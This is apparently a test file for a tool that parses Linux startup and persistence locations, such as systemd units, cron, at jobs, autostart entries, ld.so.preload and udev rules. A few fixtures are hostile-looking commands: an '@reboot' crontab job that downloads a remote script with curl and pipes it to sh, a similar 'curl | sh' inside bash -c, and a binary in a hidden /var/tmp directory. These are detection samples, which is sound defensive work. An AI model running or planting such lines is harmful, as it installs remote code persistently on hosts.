import { describe, expect, it } from 'vitest';
import { resolveExecutable, splitWords } from './startup-command.js';
import { atJobTime, parseAnacrontabLine, parseAtJob, parseCrontabLine } from './startup-cron.js';
import { desktopEnabled, parseDesktopEntry, stripFieldCodes } from './startup-desktop.js';
import { parseLdSoPreload, parseModulesLoad, parseUdevRuns } from './startup-system.js';
import { parseUnitFile, stripExecPrefixes, timerSchedule, timerUnit } from './startup-systemd.js';

describe('parseUnitFile', () => {
  it('joins continuation lines, skips comments inside them and keeps every ExecStart with its line', () => {
    const text = [
      '# comment',
      '[Unit]',
      'Description=Demo',
      '',
      '[Service]',
      'ExecStartPre=-/usr/bin/prep \\',
      '    --flag \\',
      '# a comment inside the continuation',
      '    --other',
      'ExecStart=/usr/bin/one',
      '; semicolon comment',
      'ExecStart = /usr/bin/two "quoted arg"',
      'User=svc',
      'NoEquals',
      '[Install]',
      'WantedBy=multi-user.target',
    ].join('\n');
    const directives = parseUnitFile(text);
    expect(directives.filter((d) => d.section === 'Service')).toEqual([
      { section: 'Service', key: 'ExecStartPre', value: '-/usr/bin/prep      --flag      --other', line: 6 },
      { section: 'Service', key: 'ExecStart', value: '/usr/bin/one', line: 10 },
      { section: 'Service', key: 'ExecStart', value: '/usr/bin/two "quoted arg"', line: 12 },
      { section: 'Service', key: 'User', value: 'svc', line: 13 },
    ]);
    expect(directives.at(-1)).toEqual({
      section: 'Install',
      key: 'WantedBy',
      value: 'multi-user.target',
      line: 16,
    });
  });

  it('ignores directives before any section, handles CRLF and a trailing backslash on the last line', () => {
    expect(parseUnitFile('Key=1\r\n[A]\r\nB=2\r\nC=3 \\')).toEqual([
      { section: 'A', key: 'B', value: '2', line: 3 },
      { section: 'A', key: 'C', value: '3 \\', line: 4 },
    ]);
  });

  it('does not continue a line ending in an escaped backslash', () => {
    expect(parseUnitFile('[S]\nA=x\\\\\nB=y').map((d) => d.key)).toEqual(['A', 'B']);
  });

  it('strips Exec prefixes', () => {
    expect(stripExecPrefixes('-/usr/bin/a b')).toBe('/usr/bin/a b');
    expect(stripExecPrefixes('@/usr/bin/a argv0 b')).toBe('/usr/bin/a argv0 b');
    expect(stripExecPrefixes('!!/usr/bin/a')).toBe('/usr/bin/a');
    expect(stripExecPrefixes('+-:/usr/bin/a')).toBe('/usr/bin/a');
    expect(stripExecPrefixes('/usr/bin/a')).toBe('/usr/bin/a');
  });

  it('describes a timer by its On… directives and the unit it activates', () => {
    const d = parseUnitFile(
      '[Timer]\nOnCalendar=daily\nRandomizedDelaySec=1h\nOnBootSec=5min\nPersistent=true\n[Install]\nWantedBy=timers.target',
    );
    expect(timerSchedule(d)).toBe('OnCalendar=daily; OnBootSec=5min');
    expect(timerUnit('foo.timer', d)).toBe('foo.service');
    expect(timerUnit('foo.timer', parseUnitFile('[Timer]\nUnit=bar.service'))).toBe('bar.service');
    expect(timerSchedule(parseUnitFile('[Timer]\nUnit=bar.service'))).toBeNull();
  });
});

describe('parseCrontabLine', () => {
  it('reads a system crontab line with its user field', () => {
    expect(
      parseCrontabLine('17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly', true),
    ).toEqual({
      type: 'job',
      schedule: '17 * * * *',
      user: 'root',
      command: 'cd / && run-parts --report /etc/cron.hourly',
    });
  });

  it('reads @reboot and other keywords, with and without a user field', () => {
    expect(parseCrontabLine('@reboot curl -fsSL http://203.0.113.77/u.sh | sh', false)).toEqual({
      type: 'job',
      schedule: '@reboot',
      user: null,
      command: 'curl -fsSL http://203.0.113.77/u.sh | sh',
    });
    expect(parseCrontabLine('@daily  root /usr/local/bin/backup', true)).toEqual({
      type: 'job',
      schedule: '@daily',
      user: 'root',
      command: '/usr/local/bin/backup',
    });
  });

  it('tells environment lines, comments and blank lines apart from jobs', () => {
    expect(parseCrontabLine('MAILTO=""', false)).toEqual({ type: 'env', name: 'MAILTO', value: '' });
    expect(parseCrontabLine('PATH = /usr/bin:/bin', false)).toEqual({
      type: 'env',
      name: 'PATH',
      value: '/usr/bin:/bin',
    });
    expect(parseCrontabLine('# m h dom mon dow command', false)).toBeNull();
    expect(parseCrontabLine('   ', false)).toBeNull();
    // An assignment inside the command does not make a job an environment line.
    expect(parseCrontabLine('*/5 * * * * FOO=1 /usr/bin/run', false)).toMatchObject({
      type: 'job',
      command: 'FOO=1 /usr/bin/run',
    });
  });

  it('rejects lines cron would reject', () => {
    expect(parseCrontabLine('* * * *', false)).toEqual({ type: 'invalid' });
    expect(parseCrontabLine('* * * * * root', true)).toEqual({ type: 'invalid' });
    expect(parseCrontabLine('@reboot', false)).toEqual({ type: 'invalid' });
    expect(parseCrontabLine('hello there this is not cron', false)).toEqual({ type: 'invalid' });
  });
});

describe('parseAnacrontabLine', () => {
  it('reads numeric and keyword periods', () => {
    expect(parseAnacrontabLine('1\t5\tcron.daily\trun-parts --report /etc/cron.daily')).toEqual({
      type: 'job',
      schedule: 'every 1d, delay 5m',
      id: 'cron.daily',
      command: 'run-parts --report /etc/cron.daily',
    });
    expect(parseAnacrontabLine('@monthly 15 cron.monthly run-parts /etc/cron.monthly')).toMatchObject({
      schedule: '@monthly, delay 15m',
    });
    expect(parseAnacrontabLine('START_HOURS_RANGE=3-22')).toEqual({
      type: 'env',
      name: 'START_HOURS_RANGE',
      value: '3-22',
    });
    expect(parseAnacrontabLine('1 5 only-three')).toEqual({ type: 'invalid' });
  });
});

describe('at jobs', () => {
  it('takes the here-document body as the command', () => {
    const job = parseAtJob(
      [
        '#!/bin/sh',
        '# atrun uid=1000 gid=1000',
        '# mail alice 0',
        'umask 22',
        'HOME=/home/alice; export HOME',
        'cd /home/alice || {',
        "\t echo 'Execution directory inaccessible' >&2",
        '\t exit 1',
        '}',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: at(1) writes this shell text literally
        "${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b2c3d'",
        '/usr/local/bin/one --x',
        'echo done',
        'marcinDELIMITER0a1b2c3d',
        '',
      ].join('\n'),
    );
    expect(job).toEqual({
      uid: 1000,
      mailUser: 'alice',
      command: '/usr/local/bin/one --x\necho done',
      line: 11,
    });
  });

  it('takes the tail after the cd block in the older format', () => {
    const job = parseAtJob(
      "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\ncd /root || {\n echo 'Execution directory inaccessible' >&2\n exit 1\n}\nunset OLDPWD\necho 11 > /tmp/at.txt\n",
    );
    expect(job).toEqual({
      uid: 0,
      mailUser: 'root',
      command: 'unset OLDPWD\necho 11 > /tmp/at.txt',
      line: 8,
    });
  });

  it('keeps what it can of a file of another shape', () => {
    expect(parseAtJob('#!/bin/sh\n# hello\n/bin/true\n')).toEqual({
      uid: null,
      mailUser: null,
      command: '/bin/true',
      line: 3,
    });
    expect(parseAtJob('')).toEqual({ uid: null, mailUser: null, command: null, line: null });
  });

  it('reads the run time from the spool file name', () => {
    expect(atJobTime('a0000301c89d98')).toBe('2026-11-24T02:00:00.000Z');
    expect(atJobTime('=0000301c89d98')).toBe('2026-11-24T02:00:00.000Z');
    expect(atJobTime('.SEQ')).toBeNull();
  });
});

describe('parseDesktopEntry', () => {
  const text = [
    '[Desktop Entry]',
    'Type=Application',
    'Name=Tracker',
    'Name[de]=Verfolger',
    '# comment',
    'Exec=env GDK_BACKEND=x11 /usr/libexec/tracker-miner-fs %U',
    'X-GNOME-Autostart-enabled=true',
    '',
    '[Desktop Action New]',
    'Exec=/usr/bin/other',
  ].join('\n');

  it('reads the main group only, first value wins, localised keys ignored', () => {
    const entry = parseDesktopEntry(text);
    expect(entry.get('Exec')).toEqual({
      value: 'env GDK_BACKEND=x11 /usr/libexec/tracker-miner-fs %U',
      line: 6,
    });
    expect(entry.get('Name')?.value).toBe('Tracker');
    expect(desktopEnabled(entry)).toBe(true);
  });

  it('is disabled by Hidden=true or X-GNOME-Autostart-enabled=false', () => {
    expect(desktopEnabled(parseDesktopEntry('[Desktop Entry]\nExec=x\nHidden=true'))).toBe(false);
    expect(
      desktopEnabled(parseDesktopEntry('[Desktop Entry]\nExec=x\nX-GNOME-Autostart-enabled=false')),
    ).toBe(false);
    expect(desktopEnabled(parseDesktopEntry('[Desktop Entry]\nExec=x\nHidden=false'))).toBe(true);
  });

  it('strips field codes', () => {
    expect(stripFieldCodes('/usr/bin/app %U --x %% %f')).toBe('/usr/bin/app --x %');
  });
});

describe('list files', () => {
  it('splits ld.so.preload on white space and colons, with comments', () => {
    expect(parseLdSoPreload('/lib/a.so /lib/b.so:/lib/c.so\n# /lib/no.so\n\n/lib/d.so # trailing\n')).toEqual(
      [
        { value: '/lib/a.so', line: 1 },
        { value: '/lib/b.so', line: 1 },
        { value: '/lib/c.so', line: 1 },
        { value: '/lib/d.so', line: 4 },
      ],
    );
  });

  it('reads module names', () => {
    expect(parseModulesLoad('# c\n; c\nloop\n\n  br_netfilter  \nlp io=0x378\n')).toEqual([
      { value: 'loop', line: 3 },
      { value: 'br_netfilter', line: 5 },
      { value: 'lp', line: 6 },
    ]);
  });

  it('finds RUN programs in udev rules, across continuations, not builtins', () => {
    const rules = [
      '# comment RUN+="/not/this"',
      'ACTION=="add", SUBSYSTEM=="usb", \\',
      '  RUN{builtin}+="kmod load x", RUN+="/usr/bin/a %k", RUN{program}+="b"',
      'KERNEL=="rtc0", RUN="/lib/udev/hwclock-set $root/$name"',
      'ENV{RUN}="x", PROGRAM="/bin/not-a-run"',
      'RUN+="socket:@/org/freedesktop/hal/udev_event"',
    ].join('\n');
    expect(parseUdevRuns(rules)).toEqual([
      { value: '/usr/bin/a %k', line: 2 },
      { value: 'b', line: 2 },
      { value: '/lib/udev/hwclock-set $root/$name', line: 4 },
      { value: 'socket:@/org/freedesktop/hal/udev_event', line: 6 },
    ]);
  });
});

describe('command resolution', () => {
  const files = new Set([
    '/usr/bin/curl',
    '/bin/sh',
    '/usr/bin/python3',
    '/usr/lib/udev/helper',
    '/opt/x/run',
  ]);
  const isFile = async (p: string) => files.has(p);

  it('splits words with quotes and escapes', () => {
    expect(splitWords(`a 'b c' "d \\"e\\"" f\\ g  ''`)).toEqual(['a', 'b c', 'd "e"', 'f g', '']);
  });

  it('takes an absolute first word as it is', async () => {
    expect(await resolveExecutable('/var/tmp/.x/run --daemon', isFile)).toBe('/var/tmp/.x/run');
    expect(await resolveExecutable('"/opt/my app/bin" x', isFile)).toBe('/opt/my app/bin');
    expect(await resolveExecutable('/usr/bin/../sbin/x', isFile)).toBe('/usr/sbin/x');
  });

  it('searches the default PATH for a bare name', async () => {
    expect(await resolveExecutable('curl -fsSL http://203.0.113.77/u.sh | sh', isFile)).toBe('/usr/bin/curl');
    expect(await resolveExecutable('nosuchprogram', isFile)).toBeNull();
    expect(await resolveExecutable('cd / && run-parts', isFile)).toBeNull();
  });

  it('skips assignments and env', async () => {
    expect(await resolveExecutable('LANG=C FOO="a b" curl x', isFile)).toBe('/usr/bin/curl');
    expect(await resolveExecutable('env -i GDK_BACKEND=x11 /opt/x/run %U', isFile)).toBe('/opt/x/run');
    expect(await resolveExecutable('/usr/bin/env python3 /srv/x.py', isFile)).toBe('/usr/bin/python3');
  });

  it('looks into sh -c scripts', async () => {
    expect(await resolveExecutable(`/bin/sh -c 'cd /tmp && /opt/x/run --once'`, isFile)).toBe('/opt/x/run');
    expect(await resolveExecutable(`bash -lc "curl http://x | sh"`, isFile)).toBe('/usr/bin/curl');
    expect(await resolveExecutable(`sh -c 'echo hi'`, isFile)).toBe('/bin/sh');
    expect(await resolveExecutable(`sh /opt/x/script.sh`, isFile)).toBe('/bin/sh');
  });

  it('gives null for relative paths, variables and specifiers', async () => {
    expect(await resolveExecutable('./run', isFile)).toBeNull();
    expect(await resolveExecutable('$HOME/bin/x', isFile)).toBeNull();
    expect(await resolveExecutable('%h/bin/x', isFile)).toBeNull();
    expect(await resolveExecutable('', isFile)).toBeNull();
  });

  it('searches extra directories first', async () => {
    expect(await resolveExecutable('helper $kernel', isFile, { firstDirs: ['/usr/lib/udev'] })).toBe(
      '/usr/lib/udev/helper',
    );
  });
});
